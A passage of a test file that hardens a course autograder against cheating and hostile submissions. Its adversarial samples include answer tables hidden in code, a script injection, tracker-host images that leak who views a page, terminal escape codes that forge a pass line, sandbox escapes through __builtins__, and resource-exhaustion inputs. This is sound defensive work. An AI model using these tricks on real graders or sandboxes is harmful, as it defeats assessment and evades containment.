    honest = ["ivan", "\u0438\u0432\u0430\u043d", "nikos", "\u03bd\u03af\u03ba\u03bf\u03c2", "\u05e9\u05dc\u05d5\u05dd"]
    texts = {student: json.dumps(blank(lab)) for pair in pairs for student in pair} | {student: "{}" for student in honest}
    report = {status.student: status for status in class_report(_class_course(tmp_path, lab, texts), lab)}
    for first, second in pairs:
        for one, other in ((first, second), (second, first)):
            assert any(line.startswith(f"its id {ascii(one)} looks like {ascii(other)} (another submission's")
                       for line in report[one].review), (one, report[one].review)
    assert all(report[student].review == [] for student in honest), {student: report[student].review for student in honest}



def test_an_id_in_armenian_or_cherokee_drawn_as_a_classmates_is_flagged(tmp_path):
    """Section 91 for the two other scripts whose letters section 88 knows as look-alikes: an Armenian "հսցօ" (ho, seh, co,
    oh) beside "hugo", a Cherokee "ᏚᎢᎬᏙᎬ" beside "steve", and the same Cherokee id in its small letters (which case-fold
    to the capitals). Before, no flag on any (the table held Cyrillic and Greek letters only); now each names the Latin
    id, and honest ids in these scripts that look like no classmate's get none."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report

    lab = "00_pretokenization"
    cherokee = "\u13da\u13a2\u13ac\u13d9\u13ac"
    pairs = [("hugo", "\u0570\u057d\u0581\u0585"), ("steve", cherokee), ("steve", cherokee.lower())]
    honest = ["anna", "\u0561\u0576\u0576\u0561", "\u13a0\u13cd\u13a9"]  # Armenian "աննա", Cherokee "ᎠᏍᎩ"
    texts = {student: json.dumps(blank(lab)) for pair in pairs for student in pair} | {student: "{}" for student in honest}
    report = {status.student: status for status in class_report(_class_course(tmp_path, lab, texts), lab)}
    for first, second in pairs:
        for one, other in ((first, second), (second, first)):
            assert any(line.startswith(f"its id {ascii(one)} looks like") and ascii(other) in line
                       for line in report[one].review), (one, report[one].review)
    assert all(report[student].review == [] for student in honest), {student: report[student].review for student in honest}

# ---- 92. fix51b: answers kept for the visible cases in an if/elif chain or a match -------------------------------------
# Section 86 flags a dict display keyed by the visible tests' inputs, but the same answers written as branches went
# unflagged: ``if text == "hi": return [...]`` and its ``elif``s, a comparison of all the arguments as a tuple, or a
# ``match`` of an argument with a ``case`` per visible input. Now review.answer_branches flags a learner cell that compares
# a value it holds to two or more visible inputs (a string or bytes of two characters or more, or a container not empty;
# never a number, an empty value or a word among several arguments), outside an ``assert``, on both paths (a self-grade's
# review and grade --class), and no honest solution nor an honest edge case (``if not text``, ``if n == 0``).


def _branches_source(task_graders, form: str) -> str:
    """``task_graders``' function answering each visible case from a branch of its own, in ``form``: an if/elif chain on
    all the arguments as a tuple, an elif chain on the first argument as it is or converted to its type (``str(text)``,
    ``dict(ranks)``: a call's result, which the review did not read before), or a match on it."""
    name, params = task_graders.task.name, task_graders.task.params
    first = params[0]
    answers = [(case.args, task_graders.reference(*case.args)) for case in task_graders.cases]
    lines = [f"def {name}({', '.join(params)}):"]
    if form == "match_first":
        lines.append(f"    match {first}:")
        seen: list = []
        for args, answer in answers:
            if args[0] not in seen:
                seen.append(args[0])
                lines.append(f"        case {args[0]!r}:\n            return {answer!r}")
    else:
        for index, (args, answer) in enumerate(answers):
            test = (f"({', '.join(params)},) == {args!r}" if form == "tuple_chain"
                    else f"{type(args[0]).__name__}({first}) == {args[0]!r}" if form == "converted_first"
                    else f"{first} == {args[0]!r}")
            lines.append(f"    {'if' if index == 0 else 'elif'} {test}:\n        return {answer!r}")
    lines.append("    return None")
    return "\n".join(lines) + "\n"


BRANCH_TASKS = [("00_pretokenization", "task1_utf8_bytes_solution", 0), ("02_incremental", "task1_pair_count_changes_solution", 0),
                ("04_inverted_index", "task2_pairs_with_solution", 1), ("06_encode_decode", "task2_encode_pretoken_solution", 1)]


BRANCH_FORMS = ["tuple_chain", "elif_first", "converted_first", "match_first"]


@pytest.mark.parametrize("form", BRANCH_FORMS)
@pytest.mark.parametrize("lab, cell_id, task", BRANCH_TASKS, ids=[lab[:2] for lab, _, _ in BRANCH_TASKS])
def test_answers_kept_in_branches_for_the_visible_cases_are_flagged_by_the_review(lab, cell_id, task, form):
    """Each form, in four labs' tasks (one argument, a word and a pair, bytes and a dict): before, no flag (the release's
    review is empty and stayed so); now one line naming the cell and how many visible inputs it tests for. One form a
    lab by default (drawn), every one under BPE_EXHAUSTIVE=1."""
    import json

    skip_unless_drawn(f"fix51b: answers in branches, lab {lab[:2]}", form, BRANCH_FORMS)

    from bpe_ref.course.grade import text_review
    from bpe_ref.course.notebooks import release_notebook
    from bpe_ref.course.trusted.autograde import load_graders

    task_graders = load_graders(lab).LAB.tasks[task]
    release = json.loads(release_notebook(lab).read_text(encoding="utf-8"))
    cell = next(cell for cell in release["cells"] if cell["id"] == cell_id)
    cell["source"] = _branches_source(task_graders, form)
    compile(cell["source"], cell_id, "exec")
    review = text_review(release, lab)
    assert any(re.fullmatch(rf"hint from its text: cell {cell_id}: compares a value to ([2-9]|\d\d+) inputs of the visible "
                            r"tests in if/elif or match \(answers kept for the cases it was shown\?\)", line)
               for line in review), (form, review, cell["source"])


def test_answers_kept_in_a_match_are_flagged_in_a_class_report(tmp_path):
    """The class path: a submission of lab 00 whose utf8_bytes matches its argument against the visible inputs is flagged
    in grade --class (not graded yet: the review reads the file), a blank one is not."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report
    from bpe_ref.course.trusted.autograde import load_graders

    lab, cell_id = "00_pretokenization", "task1_utf8_bytes_solution"
    notebook = blank(lab)
    cell = next(cell for cell in notebook["cells"] if cell.get("id") == cell_id)
    cell["source"] = _branches_source(load_graders(lab).LAB.tasks[0], "match_first")
    texts = {"ann": json.dumps(notebook), "zoe": json.dumps(blank(lab))}
    report = {status.student: status for status in class_report(_class_course(tmp_path, lab, texts), lab)}
    assert any(line.startswith(f"hint from its text: cell {cell_id}: compares a value to 5 inputs of the visible tests")
               for line in report["ann"].review), report["ann"].review
    assert report["zoe"].review == [], report["zoe"].review


# Honest code that compares an argument to literals: the edge cases of every lab's first task (an empty value, a number,
# None, one character, a method's name), one branch per literal, and a learner's own checks of the visible cases in asserts (a name
# compared to the visible inputs there too).
HONEST_EDGE_CASES = '''
def {name}({params}):
    if not {first}:
        return {first}
    if {first} == "" or {first} == b"" or {first} == [] or {first} == {{}} or {first} is None:
        return {first}
    elif {first} == 0 or {first} == 1 or {first} == 2:
        return {first}
    elif {first} == " " or {first} == "\\n" or {first} == b" " or {first} in ("\\t", "\\r"):
        return {first}
    elif {first} == "naive" or {first} in ("heap", "linked_list"):  # names of methods, among lab 09's inputs
        return {first}
    elif str({first}) == "" or repr({first}) == "None":
        return {first}
    match {first}:
        case "" | b"" | 0 | None:
            return {first}
    return {first}


{checks}
'''


@pytest.mark.parametrize("lab", sorted(lab for lab in os.listdir(os.path.join(os.path.dirname(__file__), "..", "labs"))
                                       if lab[:2].isdigit()))
def test_honest_solutions_and_edge_cases_are_not_flagged_as_answers_kept_in_branches(lab):
    """Every lab's source notebook (its solutions), and its first task's function (of named parameters) written with edge
    cases compared to literals and followed by a learner's own asserts of every visible case of the lab: no flag."""
    import json

    from bpe_ref.course.grade import visible_inputs
    from bpe_ref.course.notebooks import release_notebook, source_notebook
    from bpe_ref.course.trusted.autograde import load_graders
    from bpe_ref.course.trusted.review import answer_branches, learner_cells

    release = json.loads(release_notebook(lab).read_text(encoding="utf-8"))
    source = json.loads(source_notebook(lab).read_text(encoding="utf-8"))
    inputs = visible_inputs(lab)
    assert learner_cells(source, release) and answer_branches(source, release, inputs) == []
    task = next(graders.task for graders in load_graders(lab).LAB.tasks if all(map(str.isidentifier, graders.task.params)))
    checks = "\n".join(f"result = {task.name}(*{args!r})\nassert result == {args[0]!r} or result != {args!r}\n"
                       f"if {task.name}(*{args!r}) == {args[0]!r}:\n    print('unchanged')"
                       for args in inputs if "<path" not in repr(args))
    cell = {"cell_type": "code", "id": "edge", "metadata": {}, "source": HONEST_EDGE_CASES.format(
        name=task.name, params=", ".join(task.params), first=task.params[0], checks=checks)}
    compile(cell["source"], "edge", "exec")
    assert answer_branches({"cells": [*release["cells"], cell]}, release, inputs) == []


# ---- 93. red52: a learner's error of megabytes, brought back from the worker into the trusted record -----------------
#
# The worker cuts what it sends of a learner's exception (its message to 2,000 characters, its traceback to 30 lines of
# 2,000), but not its class's name, which the learner's code makes of any length; and the worker is the learner's
# process. On the trusted side a cell's error was capped (section 39), a call's was not: ``LearnerError.from_data`` kept
# every part, each failed check's message quoted it, and the trusted record (``trusted_grades/``) kept those messages
# whole.
RAISES_A_HUGE_ERROR = '''
def utf8_bytes(text):
    error = type("E" * 3_000_000, (Exception,), {})("m" * 5_000)
    error.add_note("n" * 5_000)
    raise error
'''


def test_a_learner_s_error_of_megabytes_is_cut_as_it_comes_back():
    """Lab 00's solutions with a utf8_bytes that raises an exception of a class named by 3,000,000 characters, with a
    note: the visible and hidden checks' verdicts each had a message of 3,001,054 characters, the trusted record 6 MB.
    Safe: ``LearnerError.from_data`` cuts the class name to 200 characters, the message to 2,000, the traceback to its
    last 30 lines of 2,000, as a cell's error is cut (what a reply holds that is no dict or list is none); a verdict's
    message is kept to ``MAX_VERDICT_CHARS`` (20,000) in the record. The check still names the class it raised."""
    import json
    from dataclasses import asdict

    from test_grading_adversarial import complete

    from bpe_ref.course.trusted.verdicts import LearnerError

    notebook = complete("00_pretokenization")
    for cell in notebook["cells"]:
        if cell["id"] == "task1_utf8_bytes_solution":
            cell["source"] += RAISES_A_HUGE_ERROR
    record = grade_cells(notebook["cells"], "00_pretokenization", policy=Policy(cell_timeout=20), total_seconds=200)
    failed = {verdict.grade_id: verdict.message for verdict in record.verdicts if not verdict.passed}
    assert set(failed) == {"task1_utf8_bytes", "task1_utf8_bytes_hidden"}, failed
    assert all("raised EEEE" in message and len(message) < 5_000 for message in failed.values()), {
        name: len(message) for name, message in failed.items()}
    assert len(json.dumps(asdict(record))) < 50_000, len(json.dumps(asdict(record)))
    error = LearnerError.from_data({"ename": "E" * 10**6, "evalue": "v" * 10**6, "traceback": ["t" * 10**6] * 1_000})
    assert (len(error.ename), len(error.evalue), len(error.traceback)) == (233, 2_033, 30), (
        len(error.ename), len(error.evalue), len(error.traceback))
    assert LearnerError.from_data([]).ename == "Error"
    assert LearnerError.from_data({"traceback": "x" * 10**6}).traceback == []


# ---- 94. red52: a notebook of a million JSON containers, read node by node before any bound of autograde's -----------
#
# Section 47's ``BoundedSubmission`` counts cells and outputs, in autograde's first preprocessor: nbgrader has read the
# notebook by then, nbformat validating and copying each JSON object and array as a node. 1,000,000 ``{}`` in one cell's
# metadata (a 4 MB file, one cell) cost the self-grade's read_notebook 4.4 s of CPU and 690 MB, the autograde of that
# one notebook 38 s and 2.3 GB; the exchange takes 100 MB of them.
def _many_containers(count: int) -> str:
    """Lab 00's blank release with ``count`` empty JSON objects in its first cell's metadata, as JSON text."""
    import json

    from test_grading_adversarial import blank

    notebook = blank("00_pretokenization")
    notebook["cells"][0]["metadata"]["junk"] = [{} for _ in range(count)]
    return json.dumps(notebook)


def test_a_notebook_of_too_many_json_containers_is_not_read(tmp_path):
    """Lab 00's release with 250,000 ``{}`` in a cell's metadata (past ``MAX_JSON_CONTAINERS``, 200,000): read and
    graded at nbgrader's cost per node. Safe: ``read_notebook`` (the self-grade, grade --class) says it "could not be
    read", counting its objects and arrays outside strings before parsing it; ``nbgrader autograde``
    (``nbgrader_config.py``'s ``BoundedNotebookExporter``) does not read it: not graded, the reason in nbgrader's log
    and the self-grade's message. Brackets inside strings are not counted; every lab's solution and release is graded in
    every run, well under it."""
    from bpe_ref.course.grade import NotGradable, autograde_notebook, read_notebook
    from bpe_ref.course.trusted.autograde import MAX_JSON_CONTAINERS, json_containers

    path = tmp_path / "00_pretokenization.ipynb"
    path.write_text(_many_containers(250_000), encoding="utf-8")
    with pytest.raises(NotGradable, match=r"could not be read: .* holds 250,\d{3} JSON objects and arrays, more than "
                       r"the 200,000 a submission may have"):
        read_notebook(path)
    with pytest.raises(NotGradable, match=r"not graded: .* holds 250,\d{3} JSON objects and arrays"):
        autograde_notebook(path, "00_pretokenization")
    assert json_containers('{"a": "' + "[{" * MAX_JSON_CONTAINERS + '\\"[", "b": [{}, []]}') == 4


# ---- 95. red52: what the instructor opens: one attachment shown again at each of its many images ---------------------
#
# nbconvert's markdown renderer writes a cell's attachment into the page as base64 data at each image that names it
# (``![a](attachment:a.png)``): the page grows as the images times the attachment, a 23 KB cell of 1,000 images of one
# 100 KB attachment a page of 133 MB (the feedback's, the formgrader's; both paths' autograded notebook keeps the cell).
ATTACHED_IMAGE = "![a](attachment:a.png)\n" * 1_000


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_an_attachment_shown_many_times_is_written_into_the_page_once(template):
    """A markdown cell of :data:`ATTACHED_IMAGE`, its attachment 100 KB of base64: the page was 133 MB (1,000 copies).
    Safe: :func:`bpe_ref.course.printable.markdown_html` writes each attachment's data once a cell, at its first image;
    the later images are text naming it. The page is under 1 MB, the first image shown."""
    import base64

    import nbformat

    data = base64.b64encode(b"\x89PNG" + bytes(75_000)).decode()
    cell = nbformat.v4.new_markdown_cell(ATTACHED_IMAGE, attachments={"a.png": {"image/png": data}})
    html = _instructor_page(template, [cell])
    assert len(html) < 2**20 and html.count(data) == 1, (len(html), html.count(data))
    assert html.count("[the image attachment:a.png, shown above]") == 999


# ---- 96. red52: what the instructor opens: link reference definitions written again at each of their uses ------------
#
# A markdown link reference (``[x][a]``, ``[a]``) is written with the address and title of its definition (``[a]: url``)
# at each use: one definition of a 1 KB address used 20,000 times (141 KB of markdown) made 20 MB of page, time linear
# in that; a cell of 10 MB such text, gigabytes. Many definitions, each used, cost their text again.
REFERENCE_USES = "[a]: http://example.com/" + "x" * 1_000 + "\n\n" + "[a][a] " * 20_000
REFERENCE_DEFINITIONS = "".join(f"[a{i}]: http://example.com/{i}\n" for i in range(10_000)) + "\n" + "[a1] [a2][a2]"


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_link_references_used_many_times_do_not_grow_the_instructor_s_pages(template):
    """Markdown cells of :data:`REFERENCE_USES` and :data:`REFERENCE_DEFINITIONS`: the first made a page of 20 MB (the
    address written 20,000 times). Safe: a cell of more than ``MOST_LINK_DEFINITIONS`` (64) definitions, or of one and
    more than ``MOST_BRACKETS_WITH_DEFINITIONS`` (1,000) ``[``, is shown as text (its HTML escaped as ever), the page
    about as large as the cell; a cell of a few references is rendered with its links as before."""
    import nbformat

    for source in (REFERENCE_USES, REFERENCE_DEFINITIONS):
        html = _instructor_page(template, [nbformat.v4.new_markdown_cell(source + "<script>alert(1)</script>")])
        assert len(html) < len(source) + 2**20 and "<script>alert(1)" not in html, len(html)
        assert 'href="http://example.com/' not in html
    few = "[the paper][p] and [p]\n\n[p]: https://example.org/p"
    html = _instructor_page(template, [nbformat.v4.new_markdown_cell(few)])
    assert html.count('<a href="https://example.org/p">') == 2, html[-2000:]


# ---- 97. red52: grade --class's review lines, each quoting a learner's text without a bound --------------------------
#
# The review's flags name what a submission chose: a cell's id or grade_id ("added a graded cell ...", "marked ...
# transient"), a kernel's name. A grade_id of 1,000,000 characters (JSON allows it; nbgrader's own checks come later)
# was a flag line of as many, printed to the instructor's terminal, five ids of a transient flag five times that.
def test_grade_class_review_lines_quote_a_learner_s_text_within_a_bound(tmp_path, capsys):
    """A submission of lab 00 with a cell marked graded whose grade_id is 1,000,000 characters, and three transient
    cells whose ids are 300,000 each: grade --class's report held flag lines of 1,000,060 and 900,000-odd characters.
    Safe: ``class_report`` keeps each review line and detail to ``MAX_REPORT_LINE`` (2,000) characters, saying how long
    it was, and ``print_class_report`` prints each line, escaped, within it."""
    import json
    import shutil

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import MAX_REPORT_LINE, class_report, print_class_report
    from bpe_ref.course.notebooks import REPO_ROOT

    lab = "00_pretokenization"
    for kind in ("solutions", "labs"):
        (tmp_path / kind / lab).mkdir(parents=True)
        shutil.copy(REPO_ROOT / kind / lab / f"{lab}.ipynb", tmp_path / kind / lab)
    notebook = blank(lab)
    graded = {"grade": True, "grade_id": "g" * 1_000_000, "points": 1, "solution": False, "locked": False,
              "schema_version": 3}
    notebook["cells"].append({**code_cell("extra", "x = 1"), "metadata": {"nbgrader": graded}})
    transient = {"transient": {"remove_source": True}}
    notebook["cells"] += [{**code_cell(f"{index}" + "t" * 300_000, "y = 2"), "metadata": transient}
                          for index in range(3)]
    (tmp_path / "submitted" / "ann" / lab).mkdir(parents=True)
    (tmp_path / "submitted" / "ann" / lab / f"{lab}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    report = class_report(tmp_path, lab)
    lengths = [len(line) for status in report for line in status.review]
    assert any("added a graded cell ggg" in line for line in report[0].review), report[0].review
    assert max(lengths) <= MAX_REPORT_LINE, lengths
    assert any(line.endswith("characters in all)") for line in report[0].review), report[0].review
    print_class_report(report, lab)
    printed = capsys.readouterr().out.splitlines()
    assert max(map(len, printed)) <= MAX_REPORT_LINE + 40, sorted(map(len, printed))[-3:]


# ---- 98. red52: the learner's cells' outputs, each capped, of no bound in all ----------------------------------------
#
# What a learner's cell prints is kept in the autograded notebook at 20,000 characters a stream (section 39), an error
# at some 62,000: a notebook of its 2,000 cells (``MAX_CELLS``) each printing kept 80 MB of outputs, which nbgrader
# writes, and its feedback and the formgrader's page show, in both paths.
PRINTS_A_LOT = "print('x' * 30_000)\n"


def test_the_learner_s_cells_keep_a_bounded_output_in_all():
    """Lab 00's blank release and 100 cells of :data:`PRINTS_A_LOT`: the graded notebook kept 2,000,000 characters of
    their outputs (20,000 a cell). Safe: ``grade_cells`` keeps ``MAX_LEARNER_OUTPUT_CHARS`` (1,000,000) of the learner's
    cells' outputs in all; the first output past them, and the cell's after it, are a line saying so, as every cell's
    after them; the test cells' outputs are the grader's, kept as before."""
    from test_grading_adversarial import blank

    from bpe_ref.course.trusted.autograde import MAX_LEARNER_OUTPUT_CHARS

    notebook = blank("00_pretokenization")
    notebook["cells"] += [code_cell(f"prints{index}", PRINTS_A_LOT) for index in range(100)]
    grade_cells(notebook["cells"], "00_pretokenization", policy=Policy(cell_timeout=20), total_seconds=120)
    learner = [cell for cell in notebook["cells"] if cell["id"].startswith("prints")]
    kept = sum(len(output.get("text", "")) for cell in learner for output in cell["outputs"])
    assert MAX_LEARNER_OUTPUT_CHARS - 30_000 < kept <= MAX_LEARNER_OUTPUT_CHARS + 100 * 100, kept
    assert "characters of output not kept" in learner[-1]["outputs"][0]["text"], learner[-1]["outputs"]
    assert learner[0]["outputs"][0]["text"].startswith("x" * 20_000), learner[0]["outputs"][0]["text"][:50]


# ---- 99. red52: what the instructor opens: a learner's remote image, loaded when the page is opened ------------------
#
# nbgrader's feedback and formgrader pages show a markdown image as an ``<img>``: one whose address is another server's
# (``![x](https://tracker.example/p.png)``, or by a reference) is fetched when the page is opened, telling that server
# who opened which learner's page, and when (the instructor reviewing, the learner reading feedback, its address too).
REMOTE_IMAGES = ("![x](https://tracker.example/p.png?who=instructor) ![y][r] ![z](//tracker.example/z.png) "
                 "<img src=http://tracker.example/raw.png> ![kept](figure.png)\n\n[r]: http://tracker.example/r.png")


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_a_remote_image_in_a_learner_s_markdown_is_a_link_not_loaded(template):
    """A markdown cell of :data:`REMOTE_IMAGES`: the page held ``<img src="https://tracker.example/...">`` (three of
    them). Safe: :func:`bpe_ref.course.printable.markdown_html` shows an image from elsewhere than an attachment, a
    raster ``data:`` image or a path relative to the page as a link to it, its text the image's (HTML written in the
    markdown, ``<img>`` too, was text already): nothing is loaded from the learner's server unless someone clicks."""
    import nbformat

    html = _instructor_page(template, [nbformat.v4.new_markdown_cell(REMOTE_IMAGES)])
    assert re.search(r"<img[^>]*tracker\.example", html) is None, re.findall(r"<img[^>]*>", html)
    for link, text in (("https://tracker.example/p.png?who=instructor", "x"), ("http://tracker.example/r.png", "y"),
                       ("//tracker.example/z.png", "z")):
        assert f'<a href="{link}">{text}</a>' in html, (link, html[-3000:])
    assert re.search(r'<img[^>]*src="figure.png"', html) and "&lt;img src=http://tracker.example/raw.png&gt;" in html


# ---- 100. red52: the self-grade's line naming the notebook's path, printed as the file is named ----------------------
#
# ``python -m bpe_ref grade PATH`` printed "Grading PATH as lab ..." as it was: a notebook whose file (or folder) is
# named with escape codes and line breaks (a file a classmate shared, a folder unpacked from an archive) set the
# terminal's title, rewrote the lines shown, or wrote a line of its own ("All tasks passed: 100 / 100 points").
def test_the_self_grade_prints_a_notebook_s_path_escaped(tmp_path, capsys, monkeypatch):
    """A notebook in a folder named ``"\\x1b]0;owned\\x07\\x1b[2K\\nAll tasks passed: 9 points.\\n"``: the self-grade's
    first line wrote those codes and two lines of the path's own. Safe: that line (and every line naming a path) is
    printed as every report line is (:func:`bpe_ref.course.grade.printed`): its control characters written as
    escapes."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course import grade
    from bpe_ref.course.grade import NotGradable

    def stopped(*args, **kwargs):
        raise NotGradable("not graded: stopped here by the test")

    monkeypatch.setattr(grade, "autograde_notebook", stopped)
    folder = tmp_path / "\x1b]0;owned\x07\x1b[2K\nAll tasks passed: 9 points.\n"
    folder.mkdir()
    path = folder / "00_pretokenization.ipynb"
    path.write_text(json.dumps(blank("00_pretokenization")), encoding="utf-8")
    assert grade.grade_one(path, "00_pretokenization", None, None) == 2
    captured = capsys.readouterr()
    out = captured.out + captured.err
    assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert not any(line.startswith("All tasks passed") for line in out.splitlines()), out
    assert "\\x1b]0;owned\\x07" in out and "Grading " in out.splitlines()[0], out


# ---- 101. walk52: an import the grading worker cannot load ---------------------------------------------------------------
# The worker runs without site-packages: the standard library, regex and the lab's given modules of bpe_ref are all it can
# import. A learner's prefix_token_counts built on numpy (an array of counts) passes every visible test in the kernel and
# scores nothing when graded (ModuleNotFoundError on each call), and grade --class said nothing about why (only tiktoken
# and the modules of review.MODULES were named). The review now flags an import of any module outside those, in both paths;
# not an import the cell guards (try/except ImportError), one of the notebook's own %%writefile modules (lab 03), nor one in
# a cell the autograder skips (NBGRADER_EXECUTION: the explorations' matplotlib).
NUMPY_COUNTS = ("def prefix_token_counts(last):\n    import numpy as np\n    counts = np.zeros(len(last), dtype=np.int64)\n"
                "    for end in range(1, len(last)):\n        counts[end] = counts[end - len(last[end])] + 1\n"
                "    return counts.tolist()\n")


def test_an_import_the_worker_cannot_load_scores_nothing_and_is_flagged():
    import json

    from bpe_ref.course.grade import text_review
    from bpe_ref.course.notebooks import release_notebook
    from bpe_ref.course.trusted.autograde import lab_policy, load_graders

    lab, cell_id = "08_linear_encoding", "task4_prefix_token_counts_solution"
    graders = load_graders(lab)
    with Sandbox(lab_policy(graders, Policy())) as box:
        run = box.run_cell(lab_code(lab, cell_id, NUMPY_COUNTS), "numpy")
        assert run.ok, run.error
        with pytest.raises(AssertionError, match="No module named 'numpy'"):
            graders.check_prefix_token_counts_properties(RemoteFunction(box, "prefix_token_counts"))
    release = json.loads(release_notebook(lab).read_text(encoding="utf-8"))
    assert text_review(release, lab) == []
    next(cell for cell in release["cells"] if cell["id"] == cell_id)["source"] = NUMPY_COUNTS
    review = text_review(release, lab)
    assert any(line.startswith(f"hint from its text: cell {cell_id}: imports numpy, which the grading worker cannot load")
               for line in review), review


@pytest.mark.parametrize("code", [
    "import regex\nimport json, collections.abc\nfrom heapq import heappush\nfrom __future__ import annotations\n",
    "try:\n    import numpy as np\nexcept ImportError:  # not in the grading worker\n    np = None\n",
    "import os\nif not os.environ.get('NBGRADER_EXECUTION'):\n    import matplotlib.pyplot as plt\n",
    "from chunk_counting import count_chunk\n",  # the notebook's own module, written by the cell below
], ids=["stdlib-and-regex", "guarded", "skipped-when-graded", "own-writefile-module"])
def test_imports_the_worker_loads_are_not_flagged(code):
    import json

    from bpe_ref.course.notebooks import release_notebook
    from bpe_ref.course.trusted.review import notebook_flags

    release = json.loads(release_notebook("08_linear_encoding").read_text(encoding="utf-8"))
    cells = [{"cell_type": "code", "id": "mine", "metadata": {}, "source": code},
             {"cell_type": "code", "id": "module", "metadata": {}, "source": "%%writefile chunk_counting.py\n"
              "def count_chunk(path, start, end):\n    return {}\n"}]
    # as lab 03's review reads it: a module of its own written with %%writefile, for its worker processes
    assert notebook_flags({"cells": [*release["cells"], *cells]}, release, allow_processes=True) == []
    cells[0]["source"] = code + "import numpy\n"
    assert notebook_flags({"cells": [*release["cells"], *cells]}, release, allow_processes=True) == [
        "cell mine: imports numpy, which the grading worker cannot load (the standard library, regex and the setup cell's "
        "modules only): the import fails when graded, and the cells that need it score nothing"] or "NBGRADER" in code


# ---- 102. walk52: reads of __builtins__ ----------------------------------------------------------------------------------
# Rebinding a name of __builtins__ (``__builtins__.open = ...``) and reaching ``__builtins__.__dict__`` were flagged, but a
# read was not: ``__builtins__["open"]`` (a dict in a module other than __main__), ``getattr(__builtins__, "open")``,
# ``vars(__builtins__)`` taken apart, ``globals()["__builtins__"]``, ``f.__globals__["__builtins__"]``. Through it a cell
# reaches open, __import__ and every builtin a grader's driver or the worker's loop looks up, past the flags on their names
# (``calls open (files)`` reads a call by name). No lab's code needs it: the review now flags any mention of the name.
BUILTINS_READS = {
    "subscript": "def prefix_token_counts(last):\n    read = __builtins__['open']\n    return [0] * len(last)\n",
    "getattr": "def prefix_token_counts(last):\n    read = getattr(__builtins__, 'open')\n    return [0] * len(last)\n",
    "dict-get": "def prefix_token_counts(last):\n    table = __builtins__.__dict__\n    return [0] * len(last)\n",
    "globals": "def prefix_token_counts(last):\n    table = globals()['__builtins__']\n    return [0] * len(last)\n",
    "alias": "B = __builtins__\n\n\ndef prefix_token_counts(last):\n    return [0] * len(last)\n",
}


@pytest.mark.parametrize("way", sorted(BUILTINS_READS))
def test_reads_of_builtins_are_flagged_by_the_review(way):
    import json

    from bpe_ref.course.grade import text_review
    from bpe_ref.course.notebooks import release_notebook

    lab, cell_id = "08_linear_encoding", "task4_prefix_token_counts_solution"
    release = json.loads(release_notebook(lab).read_text(encoding="utf-8"))
    next(cell for cell in release["cells"] if cell["id"] == cell_id)["source"] = BUILTINS_READS[way]
    review = text_review(release, lab)
    assert any(line.startswith(f"hint from its text: cell {cell_id}: ") and "reads __builtins__" in line
               for line in review), review


def test_a_read_of_builtins_is_flagged_in_a_class_report(tmp_path):
    """The class path: grade --class's report of a submission that reads __builtins__, beside a blank one (no flag)."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report

    lab, cell_id = "08_linear_encoding", "task4_prefix_token_counts_solution"
    notebook = blank(lab)
    next(cell for cell in notebook["cells"] if cell.get("id") == cell_id)["source"] = BUILTINS_READS["subscript"]
    texts = {"ann": json.dumps(notebook), "zoe": json.dumps(blank(lab))}
    report = {status.student: status for status in class_report(_class_course(tmp_path, lab, texts), lab)}
    assert any(f"cell {cell_id}: reads __builtins__" in line for line in report["ann"].review), report["ann"].review
    assert report["zoe"].review == [], report["zoe"].review


# ---- 103. walk52: answers kept for the visible cases in a string literal ---------------------------------------------------
# Section 86 flags a dict display keyed by the visible tests' inputs and section 92 an if/elif chain or a match; the same
# table written in a string and read back (``json.loads('{"hi": [104, 105], ...}')``, ``eval("{...}")``,
# ``ast.literal_eval("{...}")``) went unflagged: no dict display in the cell's code. review.answer_tables now reads a
# learner's string literals too: a dict display of Python anywhere in one (eval, literal_eval), or a JSON object whose keys
# are the inputs or their text (a JSON key is a str: b"abc" is written "abc").
def _string_table_source(task_graders, reader: str) -> str:
    """``task_graders``' function answering each visible case from a table kept in a string, read with ``reader``."""
    import json

    name, params = task_graders.task.name, task_graders.task.params
    answers = {case.args: task_graders.reference(*case.args) for case in task_graders.cases}
    if reader == "json.loads":  # a one-argument task of str inputs: its keys are the argument
        text = json.dumps({args[0]: answer if isinstance(answer, list) else repr(answer) for args, answer in answers.items()
                           if isinstance(args[0], str)})
        lookup = f"ANSWERS.get({params[0]})"
        header = "import json\n"
    else:
        text = repr(answers)
        lookup = f"ANSWERS.get(({', '.join(params)},))"
        header = "import ast\n" if reader == "ast.literal_eval" else ""
    return f"{header}ANSWERS = {reader}({text!r})\n\n\ndef {name}({', '.join(params)}):\n    return {lookup}\n"


STRING_TABLES = [("00_pretokenization", "task1_utf8_bytes_solution", 0, "json.loads"),
                 ("00_pretokenization", "task1_utf8_bytes_solution", 0, "eval"),
                 ("02_incremental", "task1_pair_count_changes_solution", 0, "ast.literal_eval"),
                 ("02_incremental", "task1_pair_count_changes_solution", 0, "eval")]


@pytest.mark.parametrize("lab, cell_id, task, reader", STRING_TABLES,
                         ids=[f"{lab[:2]}-{reader}" for lab, _, _, reader in STRING_TABLES])
def test_answers_kept_in_a_string_for_the_visible_cases_are_flagged_by_the_review(lab, cell_id, task, reader):
    import json

    from bpe_ref.course.grade import text_review
    from bpe_ref.course.notebooks import release_notebook
    from bpe_ref.course.trusted.autograde import load_graders

    task_graders = load_graders(lab).LAB.tasks[task]
    release = json.loads(release_notebook(lab).read_text(encoding="utf-8"))
    cell = next(cell for cell in release["cells"] if cell["id"] == cell_id)
    cell["source"] = _string_table_source(task_graders, reader)
    namespace: dict = {}
    exec(cell["source"], namespace)  # the table reads back: the function answers the visible cases
    case = task_graders.cases[0]
    assert namespace[task_graders.task.name](*case.args) is not None
    review = text_review(release, lab)
    assert any(re.fullmatch(rf"hint from its text: cell {cell_id}: a string literal holding a dict keyed by ([2-9]|\d\d+) "
                            r"inputs of the visible tests \(.*\)", line) for line in review), (review, cell["source"])


@pytest.mark.parametrize("text", ['{"hello": 1}', "{'a': 1, 'b': 2}", '{"hi": [104, 105]}', "[{}]", "x: {y}", "{" * 200])
def test_honest_strings_are_not_flagged_as_answers_kept(text):
